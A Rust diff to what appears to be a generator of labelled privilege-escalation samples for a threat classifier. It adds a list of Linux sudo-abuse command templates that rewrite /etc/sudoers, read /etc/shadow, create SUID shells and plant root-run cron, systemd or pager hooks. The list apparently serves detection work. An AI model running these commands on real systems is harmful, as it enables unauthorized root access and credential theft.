@@ -11,6 +11,7 @@ use serde_json::json;
 
 pub const GENERATORS: &[Generator] = &[
     Generator { name: "pe_shell_escape", label: ThreatType::PrivilegeEscalation, weight: 30, make: pe_shell_escape },
+    Generator { name: "pe_file_abuse", label: ThreatType::PrivilegeEscalation, weight: 12, make: pe_file_abuse },
     Generator { name: "pe_suid_caps", label: ThreatType::PrivilegeEscalation, weight: 12, make: pe_suid_caps },
     Generator { name: "pe_accounts", label: ThreatType::PrivilegeEscalation, weight: 10, make: pe_accounts },
     Generator { name: "pe_kernel", label: ThreatType::PrivilegeEscalation, weight: 8, make: pe_kernel },
@@ -132,7 +133,7 @@ const ESCAPES: &[&str] = &[
 ];
 
 fn escape(rng: &mut Rng) -> String {
-    let sh = rng.pick(SHELLS);
+    let sh = if rng.placeholders { "/path/to/command" } else { rng.pick(SHELLS) };
     rng.fill_one(ESCAPES).replace("SH", sh)
 }
 
@@ -178,6 +179,65 @@ const SUID_AND_CAPABILITIES: &[&str] = &[
     "echo '/bin/bash' > /tmp/«service|ps|curl|cat»; chmod +x /tmp/«service|ps|curl|cat»; export PATH=/tmp:$PATH",
     "/usr/bin/«pkexec|passwd|mount|su|sudo|chsh»",
 ];
+
+/// Root's files read or rewritten through a binary run as root, and root-run hooks pointed at
+/// our own script (`TARGET` is the root-owned file, `HOOK` our script).
+const FILE_ABUSE: &[&str] = &[
+    "sudo tee -a TARGET",
+    "echo '«user» ALL=(ALL) NOPASSWD: ALL' | sudo tee -a /etc/sudoers",
+    "sudo cp HOOK TARGET",
+    "sudo chmod «6777|4755|u+s|777» TARGET",
+    "sudo setfacl -m u:«user»:rwx TARGET",
+    "sudo chown «user» TARGET",
+    "sudo install -m 6777 /bin/bash /tmp/«word»",
+    "sudo mv HOOK /etc/cron.d/«word»",
+    "sudo dd if=HOOK of=TARGET",
+    "sudo chattr -i TARGET",
+    "sudo systemd-run «/bin/sh|-S|HOOK»",
+    "sudo openvt -- HOOK",
+    "echo HOOK | sudo at now",
+    "sudo tcpdump -ln -i lo -w /dev/null -W 1 -G 1 -z HOOK",
+    "sudo rpm -ivh --nodeps /tmp/«word»-1.0-1.noarch.rpm",
+    "sudo pip install /tmp/«word»",
+    "sudo ansible-playbook /tmp/«word».yml",
+    "sudo cat TARGET",
+    "sudo base64 TARGET | base64 -d",
+    "sudo xxd TARGET | xxd -r",
+    "sudo diff --line-format=%L /dev/null TARGET",
+    "sudo sed -n '1,$p' TARGET",
+    "sudo «vim|nano|ed|sed -i 's/x/y/'» TARGET",
+    "sudo cp /bin/sh /tmp/«word» && sudo chmod +s /tmp/«word»",
+    "sudo sysctl 'kernel.core_pattern=|HOOK'",
+    "sudo dnsmasq --conf-script='HOOK'",
+    "sudo restic backup --password-command='HOOK'",
+    "sudo fail2ban-client set sshd action iptables actionban HOOK",
+    "sudo journalctl --output-fields=HOOK",
+    "echo '[Service]\nExecStart=HOOK' | sudo tee /etc/systemd/system/«word».service && sudo systemctl start «word»",
+    "sudo wg-quick up /tmp/«word».conf",
+    "sudo tar xf /tmp/«word».tar --to-command HOOK",
+    "sudo git -c core.pager=HOOK log",
+    "sudo PAGER=HOOK man man",
+    "sudo EDITOR=HOOK crontab -e",
+];
+
+fn pe_file_abuse(rng: &mut Rng) -> String {
+    let target = if rng.placeholders {
+        rng.pick(&["/path/to/input-file", "/path/to/output-file", "/path/to/temp-file"]).to_string()
+    } else {
+        rng.fill("«/etc/shadow|/etc/sudoers|/etc/passwd|/root/.ssh/authorized_keys|/etc/crontab|/etc/sudoers.d/«word»|/root/.bashrc|/etc/ld.so.preload|/usr/bin/passwd»")
+    };
+    let hook = if rng.placeholders {
+        "/path/to/command".to_string()
+    } else {
+        rng.fill("«/tmp/«word».sh|/dev/shm/«word»|/tmp/.«word»|/var/tmp/«word»|/home/«user»/«word»»")
+    };
+    let cmd = rng.fill_one(FILE_ABUSE).replace("TARGET", &target).replace("HOOK", &hook);
+    if rng.chance(30) {
+        context::command(rng, &cmd, Os::Linux)
+    } else {
+        cmd
+    }
+}
 
 fn pe_suid_caps(rng: &mut Rng) -> String {
     let cmd = rng.fill_one(SUID_AND_CAPABILITIES);
